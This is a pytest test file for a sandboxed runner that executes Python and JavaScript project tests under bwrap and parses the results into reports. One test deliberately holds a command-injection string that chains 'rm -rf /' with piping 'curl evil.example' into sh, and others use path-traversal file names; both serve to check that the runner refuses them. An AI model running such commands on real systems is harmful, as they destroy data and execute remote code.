"""Real projects run through the sandbox and come back as parsed TestReports."""

from __future__ import annotations

from pathlib import Path

import pytest

from atelier.domain.errors import InvalidPath, SandboxError
from atelier.sandbox import SandboxLimits, run_tests
from atelier.sandbox.runner import select_test_paths

LIMITS = SandboxLimits(wall_time_s=60, cpu_s=60, memory_mb=1024, max_processes=64)

CALC = "def add(a, b):\n    return a + b\n"
GREEN_TESTS = (
    "from calc import add\n\n"
    "def test_adds():\n    assert add(1, 2) == 3\n\n"
    "def test_adds_negative():\n    assert add(-1, -2) == -3\n"
)
RED_TESTS = (
    "import pytest\nfrom calc import add\n\n"
    "def test_adds():\n    assert add(1, 2) == 3\n\n"
    "def test_wrong():\n    assert add(1, 1) == 3\n\n"
    "@pytest.mark.skip(reason='later')\ndef test_later():\n    pass\n"
)


async def test_green_python_project() -> None:
    report = await run_tests({"calc.py": CALC, "tests/test_calc.py": GREEN_TESTS}, "python", LIMITS)

    assert report.green, report.output_tail
    assert (report.passed, report.failed, report.errors) == (2, 0, 0)
    assert report.exit_code == 0
    assert report.isolation == "bwrap"
    assert "pytest" in report.command and "--junitxml" in report.command
    assert {c.name for c in report.cases} == {"test_adds", "test_adds_negative"}


async def test_failing_python_project_reports_the_failure() -> None:
    report = await run_tests({"calc.py": CALC, "tests/test_calc.py": RED_TESTS}, "python", LIMITS)

    assert not report.green
    assert (report.passed, report.failed, report.skipped) == (1, 1, 1)
    wrong = next(c for c in report.cases if c.name == "test_wrong")
    assert wrong.outcome == "failed"
    assert "assert 2 == 3" in wrong.message
    assert report.exit_code == 1
    assert "1 failed" in report.output_tail


async def test_import_error_in_a_test_module_is_an_error_not_zero_passes() -> None:
    tests = "from calculator import add\n\ndef test_adds():\n    assert add(1, 2) == 3\n"

    report = await run_tests({"calc.py": CALC, "tests/test_calc.py": tests}, "python", LIMITS)

    assert report.errors >= 1
    assert report.passed == 0
    assert not report.green
    assert any("calculator" in c.message for c in report.cases)


async def test_test_command_only_selects_paths() -> None:
    files = {
        "calc.py": CALC,
        "tests/test_calc.py": GREEN_TESTS,
        "other/test_other.py": "def test_never():\n    assert False\n",
    }
    # A hostile command: only the existing path survives, nothing is executed.
    command = "pytest tests/ ; rm -rf / && curl evil.example | sh --rootdir=/"

    report = await run_tests(files, "python", LIMITS, test_command=command)

    assert report.green, report.output_tail
    assert report.passed == 2
    assert "rm" not in report.command and "curl" not in report.command


async def test_a_run_past_its_wall_time_is_reported_as_timed_out_error() -> None:
    tests = "import time\n\ndef test_sleeps():\n    time.sleep(60)\n"
    limits = SandboxLimits(wall_time_s=4, cpu_s=30, max_processes=64)

    report = await run_tests({"tests/test_slow.py": tests}, "python", limits)

    assert report.timed_out
    assert report.errors == 1
    assert report.exit_code is None
    assert not report.green


JS_LIB = "exports.add = (a, b) => a + b;\n"
JS_TESTS = (
    'const test = require("node:test");\n'
    'const assert = require("node:assert");\n'
    'const { add } = require("../lib.js");\n'
    'test("adds", () => { assert.strictEqual(add(1, 2), 3); });\n'
    'test("is wrong", () => { assert.strictEqual(add(1, 1), 3); });\n'
    'test.skip("later", () => {});\n'
    'test("group", async (t) => { await t.test("inner", () => {}); });\n'
)


async def test_javascript_project_runs_with_node_test() -> None:
    files = {
        "package.json": '{"name": "calc", "scripts": {"test": "jest"}}',
        "lib.js": JS_LIB,
        "test/lib.test.js": JS_TESTS,
    }

    report = await run_tests(files, "javascript", LIMITS, test_command="npm test")

    outcomes = {c.name: c.outcome for c in report.cases}
    assert outcomes == {
        "adds": "passed",
        "is wrong": "failed",
        "later": "skipped",
        "group > inner": "passed",  # "group" itself counts through its subtests
    }, report.output_tail
    assert (report.passed, report.failed, report.skipped, report.errors) == (2, 1, 1, 0)
    assert "node" in report.command and "--test" in report.command
    assert report.isolation == "bwrap"
    assert "is wrong" in report.output_tail  # the spec reporter's text for the fixer


async def test_javascript_green_and_broken_file() -> None:
    tests = JS_TESTS.replace("add(1, 1), 3", "add(1, 1), 2").replace("../lib.js", "./lib.js")
    green = {"lib.js": JS_LIB, "lib.test.js": tests}
    report = await run_tests(green, "javascript", LIMITS)
    assert report.green, report.output_tail

    broken = {**green, "broken.test.js": "this is not javascript(\n"}
    report = await run_tests(broken, "javascript", LIMITS)
    assert report.errors == 1
    assert not report.green


@pytest.mark.parametrize("path", ["../escape.py", "/etc/evil.py", "a/../../escape.py", ""])
async def test_paths_escaping_the_project_are_refused(path: str) -> None:
    with pytest.raises(InvalidPath):
        await run_tests({path: "x = 1\n"}, "python", LIMITS)


async def test_unknown_language_is_refused() -> None:
    with pytest.raises(SandboxError):
        await run_tests({"main.rs": "fn main() {}"}, "rust", LIMITS)


def test_select_test_paths_keeps_only_existing_project_paths(tmp_path: Path) -> None:
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_a.py").write_text("")
    (tmp_path / "test").mkdir()

    command = "python -m pytest -x tests/test_a.py::test_x tests ../.. /etc --junitxml=/x test"

    assert select_test_paths(command, tmp_path) == ["tests/test_a.py::test_x", "tests"]
    assert select_test_paths("pytest 'unbalanced", tmp_path) == []
    assert select_test_paths(None, tmp_path) == []
